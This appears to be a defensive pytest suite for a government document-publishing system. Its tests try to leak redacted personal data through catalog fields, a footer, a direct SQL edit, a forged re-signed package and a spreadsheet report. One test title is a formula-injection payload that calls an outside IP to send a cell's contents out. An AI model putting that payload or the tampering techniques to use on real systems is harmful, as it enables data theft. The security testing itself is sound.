"""Attacks on the catalog fields of issue 16 and on the text written after review: each test tries to
get text the reviewer removed (or no reviewer saw) onto a public target or into a file the desk hands
out, through a field the publisher completes at publishing (内容概述, 发布机构, 主题分类, 主题词), the
amending document of 已修改, the site footer, or a report. Each asserts the correct behaviour; those
marked xfail are working attacks, their reason says how the text gets out."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from sqlalchemy import select, update

from app import documents, site_footer, users
from app.catalog import change_validity, publish_to_catalog, update_static_site, withdraw
from app.checking import check_document, latest_run
from app.db.models import CatalogEntry, User
from app.errors import PermissionDenied, ValidationFailed
from app.reviewing import Conclusion, decide
from app.roles import Role
from app.workflow import Action, perform
from publish.catalog import Validity
from publish.taxonomy import LegalBasis
from tests.conftest import PASSWORD, submit_draft
from tests.run_day import TODAY
from tests.test_catalog_fields import approved
from tests.test_release import ID_NUMBER, _approve, _remove_everything, _site_text, _submitted

NAME = "李明"  # the name the reviewer removes from tests.test_release.NOTICE


def _published(workspace, people, tmp_path, doc_id, **completed) -> str | None:
    """Publishes the approved document with what the publisher completed; the site's text, or None
    when publishing refused (the correct outcome for every attack here)."""
    try:
        publish_to_catalog(workspace.db, people.publisher, doc_id, None, **completed)
    except Exception:
        return None
    site = tmp_path / "site"
    update_static_site(workspace.db, site)
    return _site_text(site)


FINANCIAL_DIGITS = str.maketrans("0123456789", "零壹贰叁肆伍陆柒捌玖")


@pytest.mark.parametrize(
    ("field", "disguise", "context"),
    [
        ("summary", f"{NAME[0]}·{NAME[1]}", "{}违纪问题的处理情况"),
        ("publisher", f"{NAME[0]}\u3164{NAME[1]}", "测试市数据局（{}专案组）"),
        ("summary", ID_NUMBER.translate(FINANCIAL_DIGITS), "当事人证件号码{}"),
    ],
    ids=["middle-dot-in-summary", "hangul-filler-in-publisher", "financial-numerals-in-summary"],
)
def test_attack_removed_text_in_a_disguise_that_reads_the_same_at_publishing(
    workspace, people, tmp_path, field, disguise, context
):
    doc_id = _submitted(workspace, people, tmp_path)
    _remove_everything(workspace, people, doc_id)
    _approve(workspace, people, doc_id)
    text = _published(workspace, people, tmp_path, doc_id, **{field: context.format(disguise)})
    assert text is None or disguise not in text, f"{disguise!r} went out in 目录字段 {field}"


MOBILE = "13912345678"
COMPLAINT = f"""关于群众反映供暖问题的处理情况通报

各科室：
群众王某反映小区供暖不达标，联系电话{MOBILE}。经核查，供热公司已完成整改。
望各单位严格落实供暖保障工作要求，确保群众温暖过冬。
"""


def test_attack_masked_mobile_number_comes_back_with_hyphens_at_publishing(workspace, people, tmp_path):
    doc_id = _submitted(workspace, people, tmp_path, COMPLAINT)
    with workspace.db.write() as s:
        reviewer = s.get_one(User, people.reviewer)
        (finding,) = [f for f in latest_run(s, doc_id).findings if f.rule_id == "PII-MOBILE"]
        assert finding.text == MOBILE
        decide(s, reviewer, finding.id, "mask", basis=LegalBasis.THIRD_PARTY_RIGHTS)
    _approve(workspace, people, doc_id)
    text = _published(workspace, people, tmp_path, doc_id, summary="反映人王某，联系电话139-1234-5678。")
    assert text is None or "139-1234-5678" not in text


def test_attack_warnings_in_text_written_after_review_go_out_undecided(
    workspace, people, sample_files, tmp_path
):
    doc_id = approved(workspace, people, sample_files["clean"])
    old_id = "110101900307123"
    summary = f"反映人张某（身份证号{old_id}，手机{MOBILE}）系艾滋病患者。"
    text = _published(workspace, people, tmp_path, doc_id, summary=summary)
    assert text is None or (old_id not in text and MOBILE not in text)


def test_attack_sql_edit_of_the_amending_document_reaches_the_site(workspace, people, sample_files, tmp_path):
    doc_id = approved(workspace, people, sample_files["clean"], normative=True)
    entry = publish_to_catalog(workspace.db, people.publisher, doc_id, None)
    change_validity(
        workspace.db,
        people.publisher,
        entry.index_no,
        Validity.AMENDED,
        amended_on=TODAY,
        amended_by="示政规〔2027〕1号",
    )
    with workspace.db.write() as s:
        s.execute(
            update(CatalogEntry)
            .where(CatalogEntry.id == entry.id)
            .values(amended_by=f"{NAME}（身份证号{ID_NUMBER}）")
        )
    site = tmp_path / "site"
    try:
        update_static_site(workspace.db, site)
    except Exception:
        return  # refusing the tampered entry is the correct outcome
    assert ID_NUMBER not in _site_text(site)


def test_attack_text_removed_before_a_return_comes_back_at_publishing(workspace, people, tmp_path):
    doc_id = _submitted(workspace, people, tmp_path)
    _remove_everything(workspace, people, doc_id)
    with workspace.db.write() as s:
        perform(
            s,
            s.get_one(User, people.reviewer),
            doc_id,
            Action.RETURN,
            expected_version=None,
            reason="请删去当事人姓名和身份证号后重新提交",
        )
    clean = tmp_path / "通报（修改稿）.txt"
    clean.write_text(
        "关于违纪问题的处理通报\n\n各科室：\n经查，有关人员在2026年供暖保障工作中违反廉洁纪律，已作出深刻检讨。\n"
        "望各单位引以为戒，严格落实供暖保障工作要求，确保群众温暖过冬。\n",
        encoding="utf-8",
    )
    with workspace.db.write() as s:
        clerk = s.get_one(User, people.clerk)
        documents.revise(s, clerk, doc_id, None, documents.prepare(clean))
        submit_draft(s, clerk, doc_id)
    check_document(workspace.db, None, doc_id, workspace.paths.cache_dir)
    _approve(workspace, people, doc_id, Conclusion.DISCLOSE)  # nothing left to remove
    text = _published(workspace, people, tmp_path, doc_id, summary=f"{NAME}同志违纪问题的处理情况")
    assert text is None or NAME not in text


def test_attack_a_lexicon_term_in_the_site_footer_is_printed_on_every_page(
    workspace, people, sample_files, tmp_path
):
    doc_id = approved(workspace, people, sample_files["clean"])
    publish_to_catalog(workspace.db, people.publisher, doc_id, None)
    contact = "内部资料索取：13912345678"
    with workspace.db.write() as s:
        try:
            site_footer.set_footer(s, s.get_one(User, people.admin), contact=contact)
        except Exception:
            return  # refused: the correct outcome
    site = tmp_path / "site"
    update_static_site(workspace.db, site)
    assert "内部资料" not in _site_text(site)


def test_attack_a_title_becomes_a_live_formula_in_the_review_summary():
    from openpyxl import load_workbook

    from publish.review_summary import ReviewSummary, SummaryRow, to_csv, to_xlsx

    title = '=HYPERLINK("http://203.0.113.9/?q="&C4,"关于做好冬季供暖保障工作的通知")'
    row = SummaryRow(
        review_number="保审〔2026〕1号",
        title=title,
        doc_number="",
        clerk="经办甲",
        reviewer="审查丙",
        reviewed_on="2026-11-10",
        conclusion="同意公开",
        blocking=0,
        warnings=0,
        notes=0,
        removed=0,
        masked=0,
        disclosure="主动公开",
    )
    summary = ReviewSummary(department="测试市数据局", year=2026, month=11, rows=(row,))
    sheet = load_workbook(io.BytesIO(to_xlsx(summary))).active
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    csv_cells = to_csv(summary).decode("utf-8-sig").splitlines()[2].split(",")
    assert formulas == [] and not any(c.lstrip('"').startswith("=") for c in csv_cells)


def test_attack_another_departments_publisher_amends_an_entry(workspace, people, sample_files):
    doc_id = approved(workspace, people, sample_files["clean"], normative=True)
    entry = publish_to_catalog(workspace.db, people.publisher, doc_id, None)
    with workspace.db.write() as s:
        admin = s.get_one(User, people.admin)
        other = s.get_one(User, people.outsider_reviewer).department
        stranger = users.create_user(
            s,
            admin,
            login="finance-publisher",
            display_name="财政发布",
            password=PASSWORD,
            roles=[Role.PUBLISHER],
            department=other,
        ).id
    with pytest.raises(PermissionDenied):
        change_validity(
            workspace.db,
            stranger,
            entry.index_no,
            Validity.AMENDED,
            amended_on=TODAY,
            amended_by="示财规〔2027〕9号",
        )


def test_attack_someone_elses_publish_tells_whether_a_guess_was_removed(workspace, people, tmp_path):
    doc_id = _submitted(workspace, people, tmp_path)
    _remove_everything(workspace, people, doc_id)
    _approve(workspace, people, doc_id)
    answers = []
    for guess in (f"{NAME}违纪问题的处理情况", "王五违纪问题的处理情况"):
        with pytest.raises(Exception) as refused:
            publish_to_catalog(workspace.db, people.outsider_reviewer, doc_id, None, summary=guess)
        answers.append(str(refused.value))
    assert answers[0] == answers[1], answers


def test_attack_a_leader_wrong_as_of_the_documents_date_in_a_summary_written_at_publishing(
    workspace, people, sample_files, tmp_path
):
    doc_id = approved(workspace, people, sample_files["clean"], written_on=dt.date(2022, 6, 1))
    summary = "国务院总理李强主持召开国务院常务会议，部署供暖保障工作。"
    text = _published(workspace, people, tmp_path, doc_id, summary=summary)
    assert text is None or summary not in text


LOCAL_LEADERS = (
    "姓名,职务,起,止,来源\n"
    "王五,示例市市长,2020-01-01,2024-12-31,示例市人大常委会公告\n"
    "赵六,示例市市长,2024-12-31,,示例市人大常委会公告\n"
)


def test_attack_a_former_local_leader_in_a_summary_escapes_the_departments_rule_pack(
    workspace, people, sample_files, tmp_path
):
    from app import rulepacks

    with workspace.db.write() as s:
        rulepacks.save_rulepack(s, s.get_one(User, people.reviewer), "本地领导.csv", LOCAL_LEADERS.encode())
    doc_id = approved(workspace, people, sample_files["clean"])
    summary = "示例市市长王五主持召开市政府常务会议，部署供暖保障工作。"
    text = _published(workspace, people, tmp_path, doc_id, summary=summary)
    assert text is None or summary not in text


def test_attack_warnings_in_the_amending_document_or_the_withdrawal_reason_go_out(
    workspace, people, sample_files
):
    doc_id = approved(workspace, people, sample_files["clean"], normative=True)
    entry = publish_to_catalog(workspace.db, people.publisher, doc_id, None)
    refused = []
    for attempt in (
        lambda: change_validity(
            workspace.db,
            people.publisher,
            entry.index_no,
            Validity.AMENDED,
            amended_on=TODAY,
            amended_by=f"示政规〔2027〕1号（联系人张某，手机{MOBILE}）",
        ),
        lambda: withdraw(
            workspace.db, people.publisher, entry.index_no, "误将举报人身份证号110101900307123公开"
        ),
    ):
        try:
            attempt()
        except ValidationFailed:
            refused.append(True)
        else:
            refused.append(False)
    assert refused == [True, True]


def test_attack_removed_id_number_with_its_check_digit_starred_at_publishing(workspace, people, tmp_path):
    doc_id = _submitted(workspace, people, tmp_path)
    _remove_everything(workspace, people, doc_id)
    _approve(workspace, people, doc_id)
    starred = ID_NUMBER[:17] + "*"
    text = _published(
        workspace, people, tmp_path, doc_id, summary=f"当事人（身份证号{starred}）违纪问题的处理情况"
    )
    assert text is None or ID_NUMBER[:17] not in text


def test_attack_a_re_signed_package_carries_fields_no_check_saw_onto_the_online_machine(
    workspace, people, sample_files, online, tmp_path
):
    import json
    import zipfile

    from app import signing_keys
    from app.db.models import SigningKey
    from app.transfer import import_package
    from publish.release import Release
    from publish.transfer import MANIFEST, write_package
    from tests.test_transfer import PASSPHRASE, export, offline_key, trust

    trust(online, offline_key(workspace, people))
    doc_id = approved(workspace, people, sample_files["clean"])
    publish_to_catalog(workspace.db, people.publisher, doc_id, None, to_package=True)
    genuine = tmp_path / "genuine.zip"
    export(workspace, people, genuine)
    with zipfile.ZipFile(genuine) as archive:
        manifest = json.loads(archive.read(MANIFEST))
        files = [(n[len("files/") :], archive.read(n)) for n in archive.namelist() if n.startswith("files/")]
    secret = f"内部资料：当事人身份证号{ID_NUMBER}"
    (item,) = manifest["items"]
    release = Release.from_canonical(item["release"].encode("utf-8"))
    forged = Release(**{**release.__dict__, "summary": secret})
    item["release"], item["release_sha256"] = forged.canonical().decode("utf-8"), forged.sha256
    item["entry"]["summary"] = secret
    with workspace.db.read() as s:
        key = signing_keys.unlock(s.scalars(select(SigningKey)).one(), PASSPHRASE, workspace.paths.keys_dir)
    forged_path = tmp_path / "forged.zip"
    write_package(forged_path, manifest, files, key)
    try:
        import_package(online.workspace.db, online.publisher, forged_path)
    except Exception:
        return  # refused: the correct outcome
    site = tmp_path / "online-site"
    update_static_site(online.workspace.db, site)
    assert ID_NUMBER not in _site_text(site)


def test_attack_a_mobile_number_in_the_clerks_issuing_body_is_never_shown_to_the_reviewer(
    workspace, people, sample_files, tmp_path
):
    import json

    doc_id = documents.import_file(workspace.db, people.clerk, sample_files["clean"])
    with workspace.db.write() as s:
        clerk = s.get_one(User, people.clerk)
        documents.update_metadata(
            s, clerk, doc_id, None, publisher=f"示范市人民政府办公室（联系人手机{MOBILE}）"
        )
        submit_draft(s, clerk, doc_id)
    check_document(workspace.db, None, doc_id, workspace.paths.cache_dir)
    with workspace.db.read() as s:
        places = [json.loads(f.location).get("part") for f in latest_run(s, doc_id).findings]
    _approve(workspace, people, doc_id, Conclusion.DISCLOSE)
    text = _published(workspace, people, tmp_path, doc_id)
    assert "目录字段 发布机构" in places or text is None or MOBILE not in text, places
